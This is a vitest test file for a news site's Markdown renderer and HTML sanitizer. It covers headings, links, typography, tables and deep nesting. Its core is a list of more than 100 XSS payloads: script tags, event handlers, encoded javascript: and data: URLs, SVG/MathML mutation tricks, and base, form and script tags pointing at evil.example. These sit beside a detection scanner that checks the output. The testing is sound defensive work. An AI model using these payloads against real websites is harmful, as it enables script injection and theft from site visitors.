import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { capNesting, headingSlug, renderMarkdown, type MarkdownOptions } from "../../../src/render/markdown.js";
import { sanitizeHtml } from "../../../src/render/sanitize-html.js";
import { slugify } from "../../../src/util/slugify.js";

const EN: MarkdownOptions = { lang: "en", siteOrigin: "https://news.example" };

function html(markdown: string, options: MarkdownOptions = EN): string {
  return renderMarkdown(markdown, options).html;
}

// ---------------------------------------------------------------------------------------------
// assertSafe: a strict scan of the output. Our output must be well formed (every "<" starts a tag
// of the form below, attribute values double-quoted without raw quotes or brackets), so reading it
// with this small tokenizer sees exactly what a browser would.

const FORBIDDEN_ELEMENTS = new Set(
  "script style iframe object embed svg math meta base form link frame frameset applet template noscript textarea input button select title xmp plaintext noembed noframes audio video source".split(" "),
);
const URL_ATTRIBUTES = new Set(["href", "src", "cite", "action", "formaction", "xlink:href", "poster", "background", "srcset", "data"]);
const TAG = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z][a-z0-9:-]*(?:="[^"<>]*")?)*)\s*>/y;
const ATTRIBUTE = /\s+([a-z][a-z0-9:-]*)(?:="([^"]*)")?/g;

function decodeForCheck(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&(colon|tab|newline|amp|quot|lt|gt|apos);/gi, (_, n: string) => ({ colon: ":", tab: "\t", newline: "\n", amp: "&", quot: '"', lt: "<", gt: ">", apos: "'" })[n.toLowerCase()]!);
}

function assertSafe(output: string): void {
  const lower = output.toLowerCase();
  expect(lower, output).not.toContain("<script");
  for (let i = output.indexOf("<"); i !== -1; i = output.indexOf("<", i + 1)) {
    TAG.lastIndex = i;
    const m = TAG.exec(output);
    if (m === null) throw new Error(`Raw "<" in text at ${i}: ${JSON.stringify(output.slice(i, i + 40))} in ${JSON.stringify(output)}`);
    const name = m[2]!;
    expect(FORBIDDEN_ELEMENTS.has(name), `<${name}> in ${output}`).toBe(false);
    for (const a of m[3]!.matchAll(ATTRIBUTE)) {
      const attr = a[1]!;
      const value = decodeForCheck(a[2] ?? "");
      expect(/^on/.test(attr), `${attr}= in ${output}`).toBe(false);
      expect(["style", "srcdoc", "formaction", "xlink:href", "http-equiv"].includes(attr), `${attr}= in ${output}`).toBe(false);
      if (URL_ATTRIBUTES.has(attr)) {
        const url = value.replace(/[\t\n\r]/g, "").replace(/^[\u0000-\u0020]+/, "").toLowerCase();
        expect(/^(javascript|vbscript|data|file|livescript):/.test(url), `${attr}="${value}" in ${output}`).toBe(false);
        expect(url, `empty ${attr} in ${output}`).not.toBe("");
      }
    }
  }
}

// ---------------------------------------------------------------------------------------------
// XSS vectors: each runs through renderMarkdown, and through sanitizeHtml in both modes.

const XSS_VECTORS: readonly string[] = [
  // script tags in every casing and shape
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=https://evil.example/x.js></script>",
  "<script/src=//evil.example/x.js>",
  "<script\n>alert(1)</script\n>",
  "Text <script>alert(1)</script> inline",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)<</script>/script>",
  "<script>/*</script><script>*/alert(1)</script>",
  "<script\u0000>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<script <b>>alert(1)</script>",
  // event handlers on allowed tags
  '<img src="https://img.example/a.png" onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  "<img/src=x/onerror=alert(1)>",
  '<img src=x onerror="alert(1)"',
  "<IMG SRC=x ONERROR=alert(1)>",
  '<p onclick="alert(1)">click</p>',
  '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
  '<b onmouseover=alert(1)>bold</b>',
  '<div/onclick=alert(1)>x</div>',
  '<span style="x" onfocus=alert(1) autofocus tabindex=0>x</span>',
  '<details open ontoggle=alert(1)><summary>s</summary></details>',
  '<img src="x"onerror="alert(1)">',
  "<img src=`x` onerror=`alert(1)`>",
  // javascript: in Markdown links, reference links, autolinks and raw <a>
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](java\\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&#x3A;alert(1))",
  "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "[x][r]\n\n[r]: &#106;avascript:alert(1) \"title\"",
  "[r]\n\n[r]: <javascript:alert(1)>",
  "<javascript:alert(1)>",
  "<vbscript:msgbox(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="javas&#x09;cript:alert(1)">x</a>',
  '<a href="javas&#9;cript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  "<a href=javascript:alert(1)>x</a>",
  "<a href='javascript:alert(1)'>x</a>",
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="jav\u0000ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  // data: and javascript: images
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](javascript:alert(1))",
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="javascript:alert(1)">',
  // SVG, MathML, iframes, meta, base, forms, embeds
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=x><button formaction="javascript:alert(1)">go</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  // CSS
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<p style="behavior:url(x.htc)">x</p>',
  // comments hiding tags
  "<!-- <script>alert(1)</script> -->",
  "<!--><script>alert(1)</script>-->",
  "<!--->x<script>alert(1)</script>",
  "<!-- x --!><script>alert(1)</script>",
  "<!-- unclosed <script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version=\"1.0\"?><script>alert(1)</script>",
  "<!DOCTYPE html><script>alert(1)</script>",
  // </script> inside code stays text; encoded brackets stay text
  "`</script><script>alert(1)</script>`",
  "```\n</script><script>alert(1)</script>\n```",
  "    <script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)\\</script>",
  // nested and unterminated tags
  "<a href=\"https://ok.example\"><a href=\"javascript:alert(1)\">x</a></a>",
  "<b><i><u>unclosed",
  '<img src="https://img.example/a.png" alt="x" title="a"b" onerror=alert(1)>',
  "<div><div><div><script>",
  '<a href="https://ok.example" title=\'"><script>alert(1)</script>\'>x</a>',
  "<textarea><script>alert(1)</script></textarea>",
  "<title><script>alert(1)</script></title>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  // Markdown wrapping HTML
  "**<img src=x onerror=alert(1)>**",
  "[<img src=x onerror=alert(1)>](https://ok.example)",
  '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  "![\"onerror=\"alert(1)](https://img.example/a.png)",
  "| a |\n|---|\n| <script>alert(1)</script> |",
  "- <svg onload=alert(1)>",
  "> <iframe src=javascript:alert(1)>",
  "# <img src=x onerror=alert(1)>",
  "<https://ok.example/\"onmouseover=\"alert(1)>",
];

describe("XSS vectors", () => {
  test("there are at least 60", () => {
    expect(XSS_VECTORS.length).toBeGreaterThanOrEqual(60);
  });

  test.each(XSS_VECTORS.map((v) => [v]))("renderMarkdown %j is safe", (vector) => {
    assertSafe(html(vector));
  });

  test.each(XSS_VECTORS.map((v) => [v]))("sanitizeHtml %j is safe in both modes", (vector) => {
    assertSafe(sanitizeHtml(vector, "block"));
    assertSafe(sanitizeHtml(vector, "inline"));
  });

  test.each([
    ["<script>alert(1)</script>after", "after"],
    ["Text <script>alert(1)</script> inline", "<p>Text  inline</p>\n"],
    ["<style>p{}</style><textarea>t</textarea><title>x</title><svg><text>s</text></svg><math><mi>m</mi></math>ok", "ok"],
  ])("dropped elements take their content with them: %j", (input, expected) => {
    expect(html(input)).toContain(expected);
    expect(html(input)).not.toMatch(/alert|p\{\}|>t<|\bs\b|\bm\b/);
  });

  test.each([
    ["`</script>`", "<p><code>&lt;/script&gt;</code></p>\n"],
    ["&lt;script&gt;", "<p>&lt;script&gt;</p>\n"],
    ["&#60;b&#62;", "<p>&lt;b&gt;</p>\n"],
    ["```html\n<b onclick=x>\n```", '<pre><code class="language-html">&lt;b onclick=x&gt;\n</code></pre>\n'],
  ])("code and encoded brackets stay text: %j", (input, expected) => {
    expect(html(input)).toBe(expected);
  });
});

describe("property: arbitrary input is safe and never throws", () => {
  const DANGER = ["<", ">", "</", "script", "on", "onerror", "=", '"', "'", "javascript:", "&#", "&#x", ";", "/", "svg", "img", "src",
    "a href", "\n", "\n\n", " ", "`", "[", "](", ")", "!", "<!--", "-->", "style", "data:", "\t", "\u0000", "&", "x", "*", "> ", "- ", "#"];
  const danger = fc.array(fc.constantFrom(...DANGER), { maxLength: 60 }).map((parts) => parts.join(""));

  test("renderMarkdown", () => {
    fc.assert(fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: "binary", maxLength: 200 }), danger), (s) => {
      assertSafe(renderMarkdown(s, EN).html);
    }), { numRuns: 1500 });
  });

  test("sanitizeHtml", () => {
    fc.assert(fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: "binary", maxLength: 200 }), danger), (s) => {
      assertSafe(sanitizeHtml(s, "block"));
      assertSafe(sanitizeHtml(s, "inline"));
    }), { numRuns: 1500 });
  });
});

// ---------------------------------------------------------------------------------------------

describe("headings", () => {
  test.each([
    ["# A\n\n## B", [2, 3]],
    ["## A\n\n### B", [2, 3]],
    ["### A\n\n#### B\n\n### C", [2, 3, 2]],
    ["# A\n\n### B", [2, 3]], // never skips a level
    ["## A\n\n###### B\n\n##### C", [2, 3, 4]],
    ["#### Only", [2]],
    ["A\n===\n\nB\n---", [2, 3]],
    ["> # In a quote\n\n## After", [2, 3]],
  ])("%j -> levels %j", (markdown, levels) => {
    const r = renderMarkdown(markdown, EN);
    expect(r.headings.map((h) => h.level)).toEqual(levels);
    for (const h of r.headings) expect(r.html).toContain(`<h${h.level} id="${h.id}">`);
  });

  test("ids are slugify's slugs, unique, never empty", () => {
    const r = renderMarkdown("## Grüße aus Köln\n\n## Grüße aus Köln\n\n## Grüße aus Köln\n\n## !!!\n\n## ***", { lang: "de" });
    expect(r.headings.map((h) => h.id)).toEqual([
      slugify("Grüße aus Köln", "de"),
      "gruesse-aus-koeln-2",
      "gruesse-aus-koeln-3",
      "section",
      "section-2",
    ]);
    expect(r.headings[0]).toEqual({ level: 2, id: "gruesse-aus-koeln", text: "Grüße aus Köln" });
  });

  test("headingSlug is slugify(text, lang, 80, \"section\") for any text", () => {
    const alphabet = [..." -_.,:;!?()/\\\"'`&aAzZ09ÀÄäÖöÜüßÆÇéèêëïñõøÿÞ\u00A0«»–—„“”’‘´…€İẞ\u0301Łµ"];
    const text = fc.oneof(fc.string({ unit: fc.constantFrom(...alphabet), maxLength: 100 }), fc.string({ maxLength: 100 }));
    fc.assert(
      fc.property(text, fc.constantFrom("de", "en", "fr", "it", "es", "pt", "nl", "pl", "de-CH", "ca", "tr"), (t, lang) => {
        expect(headingSlug(t, lang)).toBe(slugify(t, lang, 80, "section"));
      }),
      { numRuns: 3000 },
    );
  });

  test("heading text is plain, with typography, and its id avoids ids taken by raw HTML", () => {
    const r = renderMarkdown('<div id="x">a</div>\n\n## The *"big"* `x` & [link](https://a.example)', EN);
    expect(r.headings).toEqual([{ level: 2, id: "the-big-x-and-link", text: "The “big” x & link" }]);
    expect(r.html).toContain('<h2 id="the-big-x-and-link">The <em>“big”</em> <code>x</code> &amp; <a href="https://a.example" rel="noopener">link</a></h2>');
  });

  test("no state leaks between calls", () => {
    const first = renderMarkdown("## Same\n\n| a |\n|---|\n| b |\n\n<details><summary>s</summary>", EN);
    const alone = renderMarkdown("## Same\n\n| a |\n|---|\n| b |", EN);
    const again = renderMarkdown("## Same\n\n| a |\n|---|\n| b |", EN);
    expect(first.headings[0]!.id).toBe("same");
    expect(again).toEqual(alone);
    expect(again.html).toContain('aria-label="Table"');
    expect(again.html).not.toContain("details");
  });
});

describe("links and images", () => {
  test.each([
    ["[a](https://other.example/x)", '<a href="https://other.example/x" rel="noopener">a</a>'],
    ["[a](//other.example/x)", '<a href="//other.example/x" rel="noopener">a</a>'],
    ["[a](https://news.example/x)", '<a href="https://news.example/x">a</a>'],
    ["[a](http://NEWS.example:8080/x)", '<a href="http://NEWS.example:8080/x">a</a>'],
    ["[a](https://news.example.evil.example/)", '<a href="https://news.example.evil.example/" rel="noopener">a</a>'],
    ["[a](https://news.example@evil.example/)", '<a href="https://news.example@evil.example/" rel="noopener">a</a>'],
    ["[a](/de/x/)", '<a href="/de/x/">a</a>'],
    ["[a](../x?y=1&z=2#f)", '<a href="../x?y=1&amp;z=2#f">a</a>'],
    ["[a](#frag)", '<a href="#frag">a</a>'],
    ["[a](mailto:desk@news.example)", '<a href="mailto:desk@news.example">a</a>'],
    ["[a](tel:+4930123)", '<a href="tel:+4930123">a</a>'],
    ['[a](https://x.example "Say \\"hi\\" & <bye>")', '<a href="https://x.example" title="Say &quot;hi&quot; &amp; &lt;bye&gt;" rel="noopener">a</a>'],
    ["[a](<https://x.example/a b>)", '<a href="https://x.example/a%20b" rel="noopener">a</a>'],
    ["[a](https://x.example/ü)", '<a href="https://x.example/%C3%BC" rel="noopener">a</a>'],
    ["<https://x.example/a?b=1&c=2>", '<a href="https://x.example/a?b=1&amp;c=2" rel="noopener">https://x.example/a?b=1&amp;c=2</a>'],
    ["[](https://x.example)", '<a href="https://x.example" rel="noopener">https://x.example</a>'],
  ])("%j", (markdown, expected) => {
    expect(html(markdown)).toBe(`<p>${expected}</p>\n`);
  });

  test.each([
    ["[text](javascript:alert(1))", "<p>text</p>\n"],
    ["[text]()", "<p>text</p>\n"],
    ["[text](ftp://x.example)", "<p>text</p>\n"],
    ["![alt *text*](data:image/png;base64,AAAA)", "<p>alt text</p>\n"],
    ["![alt](mailto:x@y.example)", "<p>alt</p>\n"],
  ])("disallowed URL -> text only: %j", (markdown, expected) => {
    expect(html(markdown)).toBe(expected);
  });

  test("images: src, escaped alt, title, lazy loading", () => {
    expect(html('![A "quoted" *alt* & \\<b>](https://img.example/a.png "T")')).toBe(
      '<p><img src="https://img.example/a.png" alt="A &quot;quoted&quot; alt &amp; &lt;b&gt;" title="T" loading="lazy" decoding="async"></p>\n',
    );
  });

  test("without siteOrigin every absolute link is external", () => {
    expect(html("[a](https://news.example/x)", { lang: "en" })).toContain('rel="noopener"');
  });
});

describe("raw HTML in Markdown", () => {
  test.each([
    ['Er sagte: <span lang="en">"Yes, we can"</span>.', { lang: "de" }, '<p>Er sagte: <span lang="en">„Yes, we can“</span>.</p>\n'],
    ['<abbr title="North Atlantic Treaty Organization">NATO</abbr> meets', EN, '<p><abbr title="North Atlantic Treaty Organization">NATO</abbr> meets</p>\n'],
    ["a <b>bold <i>both</b> tail", EN, "<p>a <b>bold <i>both</i></b> tail</p>\n"],
    ["a </span> stray <em>open", EN, "<p>a  stray <em>open</em></p>\n"],
    ["**bold <span>x** y</span>", EN, "<p><strong>bold <span>x</span></strong> y</p>\n"],
    ["Text <div>block</div> in a paragraph", EN, "<p>Text block in a paragraph</p>\n"],
    ['<a href="https://a.example">raw [md](https://b.example)</a>', EN, '<p><a href="https://a.example" rel="noopener">raw md</a></p>\n'],
    ["x <kbd>Ctrl</kbd> + <code>a < b</code>", EN, "<p>x <kbd>Ctrl</kbd> + <code>a &lt; b</code></p>\n"],
  ])("%j", (markdown, options, expected) => {
    expect(html(markdown, options)).toBe(expected);
  });

  test("<details> around Markdown blocks stays one element", () => {
    expect(html("<details>\n<summary>More</summary>\n\nInner *text*\n\n</details>\n\nAfter")).toBe(
      "<details>\n<summary>More</summary>\n<p>Inner <em>text</em></p>\n</details>\n<p>After</p>\n",
    );
  });

  test("a block left open is closed at the end of its container", () => {
    expect(html("> <div>\n>\n> quoted\n\nafter")).toBe("<blockquote>\n<div>\n<p>quoted</p>\n</div></blockquote>\n<p>after</p>\n");
    expect(html("<div>\n\nopen to the end")).toBe("<div>\n<p>open to the end</p>\n</div>");
  });

  test("a table in raw HTML survives", () => {
    const table = "<table><thead><tr><th scope=col>A</th></tr></thead><tbody><tr><td colspan=2>1</td></tr></tbody></table>";
    expect(html(table)).toBe('<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>\n');
  });
});

describe("typography", () => {
  test.each([
    ["de", 'Er sagte: "Wir gehen." Es ist\'s -- oder... nicht---ja.', "Er sagte: „Wir gehen.“ Es ist’s – oder… nicht—ja."],
    ["en", 'She said "yes" and it\'s \'fine\'.', "She said “yes” and it’s ‘fine’."],
    ["fr", 'Il a dit "oui" et l\'homme.', "Il a dit «\u00A0oui\u00A0» et l’homme."],
    ["fr", 'Il a dit " oui ".', "Il a dit «\u00A0oui\u00A0»."],
    ["es", 'Dijo "sí".', "Dijo «sí»."],
    ["it", 'Ha detto "sì".', "Ha detto «sì»."],
    ["de-CH", '"Grüezi"', "„Grüezi“"],
    ["en", "5\" screen", "5\" screen"],
    ["en", "the '90s", "the ’90s"],
  ])("%s: %j", (lang, markdown, expected) => {
    expect(html(markdown, { lang })).toBe(`<p>${expected}</p>\n`);
  });

  test("quotes pair across emphasis, links and inline HTML", () => {
    expect(html('"**Wir** gehen", sagte er. "[Link](https://a.example)"', { lang: "de" })).toBe(
      '<p>„<strong>Wir</strong> gehen“, sagte er. „<a href="https://a.example" rel="noopener">Link</a>“</p>\n',
    );
  });

  test.each([
    ['`"code" -- x...`', '<p><code>"code" -- x...</code></p>\n'],
    ['```\n"block" -- ...\n```', '<pre><code>"block" -- ...\n</code></pre>\n'],
    ["<https://x.example/a--b...c>", '<p><a href="https://x.example/a--b...c" rel="noopener">https://x.example/a--b...c</a></p>\n'],
    ['[x](https://x.example/a--b "t -- \\"q\\"")', '<p><a href="https://x.example/a--b" title="t -- &quot;q&quot;" rel="noopener">x</a></p>\n'],
    ['<abbr title="a -- \'b\'">x</abbr>', '<p><abbr title="a -- &#39;b&#39;">x</abbr></p>\n'],
    ['a \\"b\\" c', '<p>a "b" c</p>\n'],
  ])("never in code, URLs, attributes or escaped quotes: %j", (markdown, expected) => {
    expect(html(markdown, { lang: "de" })).toBe(expected);
  });
});

describe("language of parts", () => {
  test("top-level blocks named in passages get lang, and dir for rtl", () => {
    const markdown = "Deutscher Text.\n\nEnglish text here.\n\n- uno\n- dos\n\n## Heading in French\n\n> مرحبا بالعالم\n\nNot a passage.";
    const passages = new Map([
      ["English text here.", "en"],
      ["- uno\n- dos", "es"],
      ["## Heading in French", "fr"],
      ["> مرحبا بالعالم", "ar"],
    ]);
    const out = html(markdown, { lang: "de", passages });
    expect(out).toContain('<p lang="en">English text here.</p>');
    expect(out).toContain('<ul lang="es">');
    expect(out).toContain('<h2 id="heading-in-french" lang="fr">');
    expect(out).toContain('<blockquote lang="ar" dir="rtl">');
    expect(out).toContain("<p>Deutscher Text.</p>");
    expect(out).toContain("<p>Not a passage.</p>");
  });
});

describe("tables and code", () => {
  test("GFM tables scroll in a focusable, labelled region; alignment as classes", () => {
    expect(html("| a | b |\n|:-|-:|\n| 1 | 2 |")).toBe(
      '<div class="table-scroll" role="region" tabindex="0" aria-label="Table"><table>\n<thead>\n<tr>\n' +
        '<th scope="col" class="align-left">a</th>\n<th scope="col" class="align-right">b</th>\n</tr>\n</thead>\n' +
        '<tbody>\n<tr>\n<td class="align-left">1</td>\n<td class="align-right">2</td>\n</tr>\n</tbody>\n</table></div>\n',
    );
  });

  test("several tables get distinct labels in the page language", () => {
    const out = html("| a |\n|---|\n| 1 |\n\n| b |\n|---|\n| 2 |", { lang: "de" });
    expect(out).toContain('aria-label="Tabelle"');
    expect(out).toContain('aria-label="Tabelle 2"');
  });

  test.each([
    ["```js\nx\n```", '<pre><code class="language-js">x\n</code></pre>\n'],
    ['```C++" onclick="x\nx\n```', '<pre><code class="language-c++onclickx">x\n</code></pre>\n'],
    ["```\nx\n```", "<pre><code>x\n</code></pre>\n"],
  ])("code block %j", (markdown, expected) => {
    expect(html(markdown)).toBe(expected);
  });

  test("task list items are text, not form controls", () => {
    expect(html("- [ ] open\n- [x] done")).toBe("<ul>\n<li>☐ open</li>\n<li>☑ done</li>\n</ul>\n");
  });
});

// No timing assertions here (speed is the benchmark's job): vitest's per-test timeout is the hang guard.
describe("deep nesting and size", () => {
  test("a list nested 500 levels deep renders", () => {
    let markdown = "";
    for (let i = 0; i < 500; i++) markdown += `${"  ".repeat(i)}- item ${i}\n`;
    const out = html(markdown);
    expect(out).toContain("item 499");
    assertSafe(out);
  });

  test("a blockquote nested 500 (and 5,000) levels deep is capped at 32", () => {
    for (const depth of [500, 5000]) {
      const out = html(`${">".repeat(depth)} deep`);
      expect(out).toContain("deep");
      expect(out.split("<blockquote>").length - 1).toBe(32);
    }
  });

  test("mixed containers on one line are capped too", () => {
    const out = html(`${"> - ".repeat(1000)}x\n`);
    expect(out).toContain("x");
  });

  test("capNesting leaves ordinary text alone and is idempotent", () => {
    const text = "# T\n\n- a\n  - b\n\n> q\n\n```\n" + " ".repeat(100) + "- code\n```\n";
    expect(capNesting(text)).toBe(text);
    const deep = `${" ".repeat(200)}- x\n${">".repeat(40)} y\n`;
    expect(capNesting(deep)).toBe(`${" ".repeat(64)}- x\n${">".repeat(32)} y\n`);
    expect(capNesting(capNesting(deep))).toBe(capNesting(deep));
  });

  test("a 10 MB body renders completely", () => {
    // News prose (like the benchmark corpus), with every kind of markup now and then.
    const sentence = "Die Regierung kündigte am Montag neue Maßnahmen an, während die Opposition weitere Gespräche forderte. ";
    const block =
      `## Überschrift\n\n${sentence.repeat(6)}Er sagte: "Wir gehen" -- und ging...\n\n${sentence.repeat(4)}**Fett**, *kursiv*, ` +
      `[Link](https://a.example/x) und \`code\`.\n\n- ${sentence}\n- ${sentence}\n\n> „${sentence}“\n\n`;
    const copies = Math.ceil(10_000_000 / block.length);
    const r = renderMarkdown(block.repeat(copies), { lang: "de" });
    expect(r.headings.length).toBe(copies);
    expect(new Set(r.headings.map((h) => h.id)).size).toBe(copies);
    expect(r.html).toContain("Er sagte: „Wir gehen“ – und ging…");
  });

  test("inline markup nested past Marked's stack costs only that block its formatting", () => {
    const deep = `${"**a ".repeat(3000)}bottom${" b**".repeat(3000)}`;
    const r = renderMarkdown(`# Before\n\nFirst *paragraph*.\n\n${deep}\n\nLast **paragraph**.\n`, { lang: "en" });
    expect(r.html).toContain('<h2 id="before">Before</h2>');
    expect(r.html).toContain("<p>First <em>paragraph</em>.</p>");
    expect(r.html).toContain("<p>Last <strong>paragraph</strong>.</p>");
    expect(r.html).toContain("bottom"); // the words survive, as text
    assertSafe(r.html);
    // A body that is that one block alone renders as its text.
    const alone = renderMarkdown(deep, { lang: "en" }).html;
    expect(alone.startsWith("<p>**a **a ")).toBe(true);
    expect(alone).toContain("bottom");
  });

  test("10,000 emphasis markers around a word render", () => {
    const out = html(`${"*".repeat(10_000)}emphasis${"*".repeat(10_000)}`);
    expect(out).toContain("emphasis");
    assertSafe(out);
  });
});

describe("character references", () => {
  test("references to characters HTML forbids are dropped or replaced, never written raw", () => {
    const out = html("NUL &#0; &#x0; surrogate &#xD800; escape &#x1B; nonchar &#xFFFE; &#xFDD0; ok &amp; &#x41;");
    expect(out).toBe("<p>NUL \uFFFD \uFFFD surrogate \uFFFD escape  nonchar   ok &amp; A</p>\n");
    // eslint-disable-next-line no-control-regex
    expect(out).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\uFDD0-\uFDEF\uFFFE\uFFFF]/);
  });
});
